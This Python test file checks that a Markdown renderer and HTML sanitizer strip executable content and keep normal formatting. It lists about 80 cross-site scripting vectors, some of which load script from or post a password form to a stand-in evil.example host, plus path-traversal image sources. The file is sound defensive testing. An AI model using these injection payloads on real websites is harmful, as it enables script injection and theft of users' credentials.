"""deliberation.markup.render_markdown: nothing executable survives, normal Markdown renders.

Each vector's output is parsed with html.parser (not searched as a string) and checked for
forbidden tags, event-handler attributes, dangerous URL schemes and third-party images.
"""

from __future__ import annotations

import html
import os
import re
from html.parser import HTMLParser

import pytest

from deliberation.markup import render_markdown, sanitize_html

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button",
    "textarea", "select", "meta", "base", "link", "frame", "frameset", "applet", "video",
    "audio", "source", "template", "noscript", "xmp", "plaintext", "marquee", "details",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
BAD_SCHEME = re.compile(r"^\s*(javascript|data|vbscript|file)\s*:", re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def problems(output: str) -> list[str]:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    found = []
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attrs:
            value = html.unescape(value or "")
            compact = re.sub(r"[\x00-\x20]", "", value)
            if name.startswith("on"):
                found.append(f"event handler {name}")
            if name in {"style", "srcdoc", "formaction"}:
                found.append(f"attribute {name}")
            if name in URL_ATTRIBUTES and (BAD_SCHEME.match(value) or BAD_SCHEME.match(compact)):
                found.append(f"{name}={value!r}")
            if tag == "img" and name == "src" and not value.startswith("/media/"):
                found.append(f"third-party image {value!r}")
    if "<script" in output.lower():
        found.append("<script in text")
    return found


VECTORS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/xss src=x>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    # event handlers
    '<img src=x onerror="alert(1)">',
    "<img src=/media/a.png onerror=alert(1)>",
    '<p onclick="alert(1)">klick</p>',
    "<body onload=alert(1)>",
    '<a href="/" onmouseover="alert(1)">x</a>',
    "<div onpointerenter=alert(1)>x</div>",
    '<b ONFOCUS="alert(1)" autofocus tabindex=1>x</b>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    # javascript:, data:, vbscript: links
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    # Markdown link and image syntax
    "[klick](javascript:alert(1))",
    "[klick](JAVASCRIPT:alert(1))",
    "[klick](&#106;avascript:alert(1))",
    "[klick](data:text/html,<script>alert(1)</script>)",
    '[klick](javascript:alert(1) "Titel")',
    "[klick]( javascript:alert(1) )",
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    "![bild](javascript:alert(1))",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](/media/a.png" onerror="alert(1))',
    '<https://evil.example/"onmouseover=alert(1)>',
    # external images (no third-party assets)
    "![Tracker](https://tracker.example/pixel.gif)",
    "![Tracker](//tracker.example/pixel.gif)",
    '<img src="https://tracker.example/p.gif">',
    '<img src="/media/../../etc/passwd">',
    '<img srcset="https://tracker.example/p.gif 1x">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # frames, objects, embeds
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="x"></applet>',
    # style
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="behavior:url(x.htc)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # meta, base, forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=p type=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    # malformed, unclosed, comments, templates
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "`<script>alert(1)</script>` und ```\n<script>alert(1)</script>\n```",
    "<div\x00 onclick=alert(1)>x</div>",
    '<a href="java\nscript:alert(1)">x</a>',
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
]


def test_there_are_at_least_fifty_vectors():
    assert len(VECTORS) >= 50


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executable_survives(vector, settings):
    settings.MEDIA_URL = "/media/"
    output = render_markdown(vector)
    assert problems(output) == [], output


def test_the_checker_itself_catches_what_it_should():
    assert problems('<a href="javascript:alert(1)">x</a>')
    assert problems('<img src="https://x.example/a.png">')
    assert problems("<p onclick=x>y</p>")


# --- normal Markdown --------------------------------------------------------------------------


def test_emphasis_and_strong_render():
    assert render_markdown("*kursiv* und **fett**") == (
        "<p><em>kursiv</em> und <strong>fett</strong></p>"
    )


def test_lists_render():
    output = render_markdown("- eins\n- zwei\n\n1. erstens\n2. zweitens")
    assert "<ul>\n<li>eins</li>\n<li>zwei</li>\n</ul>" in output
    assert "<ol>\n<li>erstens</li>\n<li>zweitens</li>\n</ol>" in output


def test_links_get_rel_nofollow():
    output = render_markdown("[Mieterverein](https://www.berliner-mieterverein.de/)")
    assert 'href="https://www.berliner-mieterverein.de/"' in output
    assert 'rel="nofollow noopener noreferrer ugc"' in output


def test_code_is_escaped_not_executed():
    output = render_markdown("`<b>fett</b>`\n\n```\nif a < b:\n    pass\n```")
    assert "<code>&lt;b&gt;fett&lt;/b&gt;</code>" in output
    assert "<pre><code>if a &lt; b:\n    pass\n</code></pre>" in output


def test_headings_are_shifted_below_the_page_headings():
    assert render_markdown("# Titel\n\n## Unter").startswith("<h3>Titel</h3>")


def test_our_own_uploaded_images_are_kept():
    output = render_markdown("![Plan](/media/uploads/2025/01/plan.png)")
    # cmark-gfm writes src before alt (Python-Markdown wrote alt first); nh3 keeps the order.
    assert '<img src="/media/uploads/2025/01/plan.png" alt="Plan">' in output


def test_a_blockquote_and_a_line_break_render():
    output = render_markdown("> zitiert\n> weiter")
    assert output == "<blockquote>\n<p>zitiert<br>\nweiter</p>\n</blockquote>"


def test_one_render_carries_nothing_into_the_next():
    first = render_markdown("```\n<script>code</script>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<pre>" in first and "<table>" in first
    assert render_markdown("Einfach") == "<p>Einfach</p>"
    assert render_markdown("") == ""


def test_threads_render_side_by_side_without_mixing_their_posts():
    from concurrent.futures import ThreadPoolExecutor

    texts = [f"Beitrag **{i}**\n\n- {i}\n- {i + 1}" for i in range(200)]
    with ThreadPoolExecutor(4) as pool:
        rendered = list(pool.map(render_markdown, texts))
    for i, out in enumerate(rendered):
        assert f"<strong>{i}</strong>" in out
        assert f"<li>{i + 1}</li>" in out


def test_strikethrough_tables_and_bare_links_render_as_on_github():
    output = render_markdown("~~alt~~ neu, siehe www.example.org\n\n| a | b |\n|:-|-:|\n| 1 | 2 |")
    assert "<del>alt</del>" in output
    assert '<a href="http://www.example.org" rel="nofollow noopener noreferrer ugc">' in output
    assert '<th align="left">a</th>' in output and '<td align="right">2</td>' in output


def test_raw_html_is_never_passed_through_only_its_text_stays():
    # cmark-gfm without CMARK_OPT_UNSAFE omits raw HTML; nh3 then strips the comment it leaves.
    assert render_markdown("a <b title=x>fett</b> c") == "<p>a fett c</p>"


def test_a_lone_surrogate_from_a_json_frame_renders_instead_of_raising():
    assert render_markdown("a\ud800b") == "<p>a\ufffdb</p>"


# --- image sources (issue #9, finding 9) -------------------------------------------------------

TRICKY_IMAGE_SOURCES = [
    "/media/%2e%2e/admin/",
    "/media/%2E%2E/x",
    "/media/.%2e/x",
    "/media/uploads%2f..%2fx.png",
    "/media/uploads%2F..%2Fx.png",
    "/media/../logout/",
    "/media/uploads/../../x",
    "/media/./x.png",
    "/media//evil.example/x.png",
    "/media/\\\\evil.example/x.png",
    "/media/a.png?next=/logout/",
    "/media/a.png#x",
    "/media/a.png;x=1",
    "/media/",
    "/media",
    "/mediax/a.png",
    "/logout/",
    "//evil.example/media/a.png",
    "https://evil.example/media/a.png",
    "/media/&#46;&#46;/x",
    "/media/a%20b.png",
]


@pytest.mark.parametrize("source", TRICKY_IMAGE_SOURCES)
def test_an_image_source_that_is_not_a_plain_media_path_is_dropped_its_alt_text_stays(
    source, settings
):
    settings.MEDIA_URL = "/media/"
    output = render_markdown(f"Plan: ![Der <Plan>]({source})")
    assert "<img" not in output, output
    assert output == "<p>Plan: Der &lt;Plan&gt;</p>"


def test_an_image_source_as_our_uploads_name_it_is_kept(settings):
    settings.MEDIA_URL = "/media/"
    for source in ("/media/uploads/2026/12/3f2a9c.webp", "/media/uploads/2026/12/a_b-1.c.png"):
        assert f'<img src="{source}" alt="x">' in render_markdown(f"![x]({source})")


def test_no_attribute_is_kept_on_every_tag_only_those_of_the_table():
    # nh3 keeps title and lang on every tag unless the generic set is given: it is, empty.
    cleaned = sanitize_html(
        '<p title="t" lang="de">x</p><a href="https://a.example/" title="t">y</a>'
    )
    assert cleaned == (
        '<p>x</p><a href="https://a.example/" title="t" rel="nofollow noopener noreferrer ugc">'
        "y</a>"
    )


# --- memory ------------------------------------------------------------------------------------


def _resident_bytes() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.skipif(not os.path.exists("/proc/self/statm"), reason="needs Linux /proc")
def test_rendering_frees_what_cmark_allocated():
    # cmarkgfm's own helpers leak the parsed tree and the HTML (about 110 KB per 1 KB post with
    # extensions; 300 of these 9 KB posts would leak about 300 MB). Ours frees both.
    text = (
        "Hallo **Welt** [x](https://a.example/)\n\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        * 100
    )
    render_markdown(text)
    before = _resident_bytes()
    for _ in range(300):
        render_markdown(text)
    assert _resident_bytes() - before < 64 * 1024 * 1024
